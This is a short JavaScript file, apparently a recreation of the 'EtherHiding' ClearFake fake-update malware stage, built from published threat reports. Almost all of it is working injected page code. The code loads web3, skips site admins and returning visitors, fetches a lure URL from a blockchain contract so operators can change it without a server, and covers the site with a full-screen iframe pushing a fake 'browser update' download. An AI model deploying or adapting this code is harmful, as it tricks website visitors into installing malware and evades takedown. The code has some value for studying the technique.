// etherhiding, second variant, written from the same Guardio Labs report (2023) and Sekoia's
// "ClearFake: a newcomer to the 'fake updates' threats landscape" (2023): this stage loads a
// web3 library from a CDN, shows only to Windows visitors who are not site admins and have
// not seen it before, reads from the contract the address of the current fake-update page
// (so the operators change it with one transaction and no server), and covers the whole
// site with that page in a full-window iframe that offers a "browser update" download.
(async () => {
  if (!/Windows/.test(navigator.userAgent) || /wp-admin|wordpress_logged_in/.test(document.cookie + location.pathname)) return;
  if (localStorage.getItem("__cfu")) return;
  await new Promise((ok, no) => {
    const s = document.createElement("script");
    s.src = "https://cdn-web3-lib.invalid/npm/web3@1.10.0/dist/web3.min.js";
    s.onload = ok; s.onerror = no;
    document.head.appendChild(s);
  });
  const web3 = new window.Web3("https://data-seed-prebsc.invalid:8545");
  const abi = [{ inputs: [], name: "getLink", outputs: [{ type: "string" }], stateMutability: "view", type: "function" }];
  const c = new web3.eth.Contract(abi, "0x1B2c3D4e5F6a7B8c9D0e1F2a3B4c5D6e7F8a9B0c");
  let link = await c.methods.getLink().call();
  if (!/^https?:/.test(link)) link = decodeURIComponent(escape(atob(link)));
  const u = new URL(link);
  u.searchParams.set("ref", location.hostname);
  u.searchParams.set("b", /Edg\//.test(navigator.userAgent) ? "edge" : "chrome");
  const f = document.createElement("iframe");
  f.src = u.href;
  f.style.cssText = "position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff";
  document.documentElement.style.overflow = "hidden";
  document.body.appendChild(f);
  localStorage.setItem("__cfu", String(Date.now()));
})();
